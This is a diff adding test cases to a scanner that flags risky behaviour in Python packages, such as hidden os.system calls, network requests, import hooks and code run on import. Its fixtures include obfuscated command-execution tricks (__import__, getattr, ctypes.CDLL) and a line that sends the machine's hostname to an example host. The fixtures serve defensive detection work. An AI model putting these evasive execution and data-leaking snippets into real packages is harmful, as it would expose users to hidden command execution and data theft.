@@ -27,6 +27,8 @@ describe("what code reaches, however it is named", () => {
     ["def f(x): __import__('os').system(x)", "process", "os.system"],
     ["import importlib\ndef f(x): importlib.import_module('os').popen(x)", "process", "os.popen"],
     ["import os\ndef f(x): getattr(os, 'system')(x)", "process", "os.system"],
+    ["def f(u): __import__('urllib.request').request.urlopen(u)", "network", "urllib.request.urlopen"],
+    ["def f(u): __import__('urllib.request', None, None, ['x']).urlopen(u)", "network", "urllib.request.urlopen"],
     ["import os\ng = os\nh = g.system\ndef f(x): h(x)", "process", "os.system"],
     ["import sys\ndef f(x): sys.modules['os'].system(x)", "process", "os.system"],
     ["import os, threading\ndef f(x): threading.Thread(target=os.system, args=(x,)).start()", "process", "os.system"],
@@ -161,6 +163,12 @@ describe("code changes what Python imports, or runs at its start", () => {
     expect(found(inModule(text))).toContain(expected);
   });
 
+  test("in a function that nobody calls, a hook is a notice", () => {
+    expect(found(inModule("import sys\ndef f(): sys.meta_path.append(Finder())"))).toEqual([
+      "notice import-hook sys.meta_path.append",
+    ]);
+  });
+
   test("a path of a model and a list of finders are none of that", () => {
     const text = "import sys, torch\ntorch.load('model.pth')\nfor finder in sys.meta_path: print(finder)\n";
     expect(inModule(text)).toEqual([]);
@@ -173,6 +181,8 @@ describe("what runs on import", () => {
   test.each([
     ["import os\nos.system('x')", "os.system"],
     ["import os\nclass A:\n    x = os.system('x')", "os.system"],
+    ["import os\ndef d(f):\n    os.system('x')\n    return f\n@d\ndef g(): pass", "os.system"],
+    ["import ctypes\nctypes.CDLL(None).system(b'x')", "ctypes.CDLL().system"],
     ["import os\ndef f(x=os.system('x')): pass", "os.system"],
     ["import os\n@register(os.system('x'))\ndef f(): pass", "os.system"],
     ["import os\ntry:\n    os.system('x')\nexcept Exception:\n    pass", "os.system"],
@@ -324,6 +334,10 @@ describe("tests and documentation of an sdist", () => {
       expect(inFile(hidden)).toContain("warning decoded-code os.system");
       expect(inFile(hidden)).toContain("warning decoded-code exec: base64.b64decode");
       expect(inFile(sent)).toContain("warning secret-environment os.environ");
+      expect(
+        inFile("import socket, requests\nrequests.get('https://a.example/?h=' + socket.gethostname())\n"),
+      ).toContain("warning network requests.get");
+      expect(inFile("import pickle\nx = pickle.loads(b'\\x80\\x02.')\n")).toEqual(["notice decoded-code pickle.loads"]);
     }
   });
   test("of a wheel are installed", () => {
